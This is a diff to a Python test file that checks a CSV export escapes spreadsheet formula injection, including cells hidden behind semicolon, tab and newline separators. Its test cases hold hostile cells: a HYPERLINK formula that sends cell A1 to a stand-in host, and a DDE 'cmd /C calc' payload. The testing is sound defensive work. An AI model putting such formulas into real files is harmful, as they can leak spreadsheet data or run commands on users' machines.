@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import logging
+import re
 import subprocess
 import sys
 import unicodedata
@@ -140,25 +141,44 @@ def test_escape_json_keeps_value(value: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "cell",
+    ("cell", "shown"),
     [
-        '=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")',
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(A1)",
-        "\t=1",
-        "\n=1",
-        "  =1",
-        "'=1",
-        '"=1',
-        "\uff1d1+1",
+        ('=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")', None),
+        ("+1+cmd|' /C calc'!A0", None),
+        ("-2+3", None),
+        ("@SUM(A1)", None),
+        ("\ttext", None),
+        ("\t=1", "'\t'=1"),
+        ("\n=1", "'\n'=1"),
+        ("  =1", None),
+        ("'=1", None),
+        ('"=1', None),
+        ("\uff1d1+1", None),
+        ("a;=1", "a;'=1"),
+        ('a; "=1;b', "a;' \"=1;b"),
+        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
+        ("a\n+1", "a\n'+1"),
+        ("a;b = c - d\ttext", "a;b = c - d\ttext"),
     ],
 )
-def test_csv_quotes_formulas_and_csv_raw_does_not(cell: str, capsys: pytest.CaptureFixture[str]) -> None:
-    for form in ("csv", "csv-raw"):
+def test_csv_quotes_formulas_and_csv_raw_does_not(
+    cell: str, shown: str | None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for form, expected in (("csv", f"'{cell}" if shown is None else shown), ("csv-raw", cell)):
         show(RowOutput([[{"text": cell, "reward": -0.5}]], None, form))  # type: ignore[arg-type]
-        written = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
-        assert written == {"text": f"'{cell}" if form == "csv" else cell, "reward": "-0.5"}
+        written = next(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+        assert written == {"text": expected, "reward": "-0.5"}
+
+
+def starts_formula(cell: str) -> bool:
+    return cell.strip().lstrip("'\"").startswith(("=", "+", "-", "@")) and not cell.strip().startswith("'")
+
+
+@given(text=st.text("=+-@;\t\n\r ,'\"ax", max_size=12))
+def test_csv_has_no_formula_whatever_the_separator(text: str) -> None:
+    """A spreadsheet that separates by `;` or tabs sees neither the quotes nor the ends of our cells."""
+    assert escape_csv_cell("a\r=1") == "a\\x0d=1"
+    assert not [each for each in re.split("[;\t\n\r]", escape_csv_cell(text)) if starts_formula(each)]
 
 
 def test_log_formatter_escapes_control_characters() -> None:
